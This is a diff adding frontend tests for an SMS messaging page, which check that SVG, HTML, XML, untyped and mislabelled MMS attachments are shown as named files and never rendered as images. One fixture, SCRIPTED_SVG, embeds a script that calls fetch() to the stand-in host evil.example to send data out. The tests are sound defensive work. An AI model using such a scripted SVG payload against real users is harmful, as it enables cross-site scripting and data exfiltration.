@@ -26,6 +26,34 @@ const MEDIA_URL = new RegExp(
   `^https://api\\.twilio\\.com/2010-04-01/Accounts/${DEMO_ACCOUNT.accountSid}/Messages/MM[0-9a-f]+/Media/ME[0-9a-f]+$`,
 );
 const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
+const RASTER_TYPES = ['image/png', 'image/jpeg', 'image/gif', 'image/webp', 'image/bmp'];
+const MAYA = '+14155559876';
+const SCRIPTED_SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?" + sessionStorage.length)</script></svg>';
+
+/** A data: MediaUrl of `type` (the emulator lists and serves that type; `servedAs` makes the host lie). */
+function mediaUrlOf(type: string, payload: string, servedAs?: string): string {
+  const served = servedAs === undefined ? '' : `;served-as=${encodeURIComponent(servedAs)}`;
+  return `data:${type}${served},${encodeURIComponent(payload)}`;
+}
+
+/** Maya sends SHOP an MMS with one attachment, before the page opens. */
+function deliverAttachment(body: string, mediaUrl: string): void {
+  testEmulator().deliverInbound({ from: MAYA, to: SHOP, body, mediaUrls: [mediaUrl] });
+}
+
+/** Types of every Blob the app has made an object URL of. */
+function objectUrlBlobTypes(): string[] {
+  return createObjectUrl.mock.calls.map(([blob]) => (blob as Blob).type);
+}
+
+/** `count` pictures (SHOP has four of its own) shown from object URLs: the page's media fetches settled. */
+async function picturesShown(count = 4): Promise<void> {
+  await waitFor(() => {
+    const images = screen.getAllByRole('img', { name: MEDIA_ALT });
+    expect(images.filter((image) => srcOf(image).startsWith('blob:'))).toHaveLength(count);
+  });
+}
 
 function mediaMessageSids(phoneNumber: string): string[] {
   return storedMessagesOf(phoneNumber)
@@ -324,5 +352,95 @@ describe('Message media', { timeout: 20_000 }, () => {
     expect(requestsTo(MEDIA_LIST)).toHaveLength(1);
     expect(requestsTo(MEDIA_BYTES)).toHaveLength(1);
     expect(watched).toHaveLength(2);
+  });
+
+  describe('only raster images are shown as images', () => {
+    it.each([
+      { what: 'an SVG holding a script', type: 'image/svg+xml', shown: 'image/svg+xml' },
+      {
+        what: 'an SVG with an odd case and a parameter',
+        type: 'Image/SVG+XML; charset=utf-8',
+        shown: 'Image/SVG+XML; charset=utf-8',
+      },
+      { what: 'an HTML page', type: 'text/html', shown: 'text/html' },
+      { what: 'an XML document', type: 'application/xml', shown: 'application/xml' },
+    ])(
+      'shows $what as a named file, never fetching it nor making an object URL of it',
+      async ({ type, shown }) => {
+        deliverAttachment('Our new logo, see attached', mediaUrlOf(type, SCRIPTED_SVG));
+        const { user } = await openMessagesPage();
+        await chooseNumber(user, SHOP);
+        const card = await cardWithBody('Our new logo, see attached');
+        expect(
+          await within(card).findByText(`Attached file of type ${shown} (not shown)`),
+        ).toBeInTheDocument();
+        expect(within(card).queryByRole('img')).not.toBeInTheDocument();
+        await picturesShown();
+        expect(requestsTo(MEDIA_BYTES)).toHaveLength(4);
+        expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
+      },
+    );
+
+    it('shows media of no type as a named file, not as an image, and not as a bare <img> either', async () => {
+      deliverAttachment('Something attached', mediaUrlOf('', SCRIPTED_SVG));
+      interceptMediaBytes(networkFailure);
+      const { user } = await openMessagesPage();
+      await chooseNumber(user, SHOP);
+      const card = await cardWithBody('Something attached');
+      expect(await within(card).findByText('Attached file of unknown type (not shown)')).toBeInTheDocument();
+      // The seeded pictures fell back to bare <img>s; this attachment got neither a fetch nor an <img>.
+      await waitFor(() => expect(screen.getAllByRole('img', { name: MEDIA_ALT })).toHaveLength(4));
+      expect(within(card).queryByRole('img')).not.toBeInTheDocument();
+      expect(createObjectUrl).not.toHaveBeenCalled();
+    });
+
+    it('shows bytes that come back as SVG although Media.json says image/png as a named file', async () => {
+      deliverAttachment('A photo, honest', mediaUrlOf('image/png', SCRIPTED_SVG, 'image/svg+xml'));
+      const { user } = await openMessagesPage();
+      await chooseNumber(user, SHOP);
+      const card = await cardWithBody('A photo, honest');
+      expect(
+        await within(card).findByText('Attached file of type image/svg+xml (not shown)'),
+      ).toBeInTheDocument();
+      expect(within(card).queryByRole('img')).not.toBeInTheDocument();
+      await picturesShown();
+      // Its bytes were fetched (that is how the lie was found) but never made into an object URL.
+      expect(requestsTo(MEDIA_BYTES)).toHaveLength(5);
+      expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
+    });
+
+    it('shows bytes of no type as a named file although Media.json says image/png', async () => {
+      deliverAttachment('A photo, untyped', mediaUrlOf('image/png', 'bytes', ''));
+      const { user } = await openMessagesPage();
+      await chooseNumber(user, SHOP);
+      const card = await cardWithBody('A photo, untyped');
+      expect(await within(card).findByText('Attached file of unknown type (not shown)')).toBeInTheDocument();
+      await picturesShown();
+      expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
+    });
+
+    it.each([
+      { listed: 'image/png', blobType: 'image/png' },
+      { listed: 'image/jpeg', blobType: 'image/jpeg' },
+      { listed: 'image/gif', blobType: 'image/gif' },
+      { listed: 'image/webp', blobType: 'image/webp' },
+      { listed: 'image/bmp', blobType: 'image/bmp' },
+      { listed: 'IMAGE/JPEG; name=photo.jpg', blobType: 'image/jpeg' },
+    ])('shows $listed as an image, from an object URL of a $blobType Blob', async ({ listed, blobType }) => {
+      deliverAttachment('A raster picture', mediaUrlOf(listed, 'picture bytes'));
+      const { user } = await openMessagesPage();
+      await chooseNumber(user, SHOP);
+      const card = await cardWithBody('A raster picture');
+      const image = await within(card).findByRole('img', { name: MEDIA_ALT });
+      await waitFor(() => expect(srcOf(image)).toMatch(/^blob:/));
+      await picturesShown(5);
+      const made = createObjectUrl.mock.calls.map(([blob]) => blob as Blob);
+      expect(made).toHaveLength(5);
+      for (const blob of made) expect(RASTER_TYPES).toContain(blob.type);
+      const index = createObjectUrl.mock.results.findIndex((result) => result.value === srcOf(image));
+      const shownBlob = made[index];
+      expect(shownBlob?.type).toBe(blobType);
+      expect(await shownBlob?.text()).toBe('picture bytes');
+    });
   });
 });
